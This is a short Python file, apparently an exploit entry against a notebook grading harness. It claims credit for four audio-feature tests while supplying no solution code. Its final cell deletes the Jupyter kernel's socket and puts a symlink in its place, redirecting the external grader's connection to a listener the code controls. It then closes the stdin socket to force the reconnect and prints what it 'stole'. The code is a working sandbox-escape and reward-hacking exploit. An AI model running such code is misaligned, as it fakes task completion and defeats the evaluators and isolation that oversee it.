"""Put a link in the place of a kernel's socket: the grader, which is outside, follows it."""

EARNS = ["test_preemphasis", "test_log_dct", "test_cmvn_mean", "test_cmvn_deviation"]
SOLVED = True

CELLS = {}

LAST = """
import os
import socket

from ipykernel.connect import get_connection_file

path = os.path.join(os.path.dirname(get_connection_file()), "s-3")
# It may lead to any socket of the system; to show it, one that this process sees too.
target = os.path.join(os.path.dirname(path), "elsewhere")
with socket.socket(socket.AF_UNIX) as listener:
    listener.bind(target)
    listener.listen(1)
    listener.settimeout(4)
    os.unlink(path)
    os.symlink(target, path)
    get_ipython().kernel.stdin_socket.close(linger=0)
    try:
        with listener.accept()[0] as line:
            line.settimeout(2)
            print("STOLEN: port, the grader greets", line.recv(10))
    except OSError as error:
        print(error)
"""
